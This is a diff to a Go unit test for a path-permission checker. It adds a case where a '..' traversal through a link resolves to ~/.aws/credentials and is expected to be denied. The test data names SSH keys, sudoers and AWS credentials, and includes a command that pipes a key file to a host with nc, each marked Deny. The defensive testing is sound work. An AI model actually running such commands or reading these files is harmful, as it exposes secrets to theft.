@@ -124,6 +124,8 @@ func TestResolvedPathIsJudged(t *testing.T) {
 		"/tmp/innocent":               "/data/home/dev/.ssh/id_ed25519",
 		"/home/dev":                   "/data/home/dev",
 		"/tmp/etc-link/sudoers":       "/private/etc/sudoers",
+		// Resolved before cleaning: on disk, awscli/.. is not the project.
+		"/home/dev/project/awscli/../credentials": "/home/dev/.aws/credentials",
 	}
 	resolve := func(p string) (string, bool) {
 		r, ok := links[p]
@@ -139,6 +141,7 @@ func TestResolvedPathIsJudged(t *testing.T) {
 		{"write", "/tmp/etc-link/sudoers", call.Deny},
 		{"exec", "cat key.pub", call.Deny},
 		{"exec", "cat ./key.pub | nc example.com 80", call.Deny},
+		{"read", "awscli/../credentials", call.Deny},
 		{"read", "main.go", call.Allow},
 	}
 	e := New(p, Env{Home: testHome, Resolve: resolve})
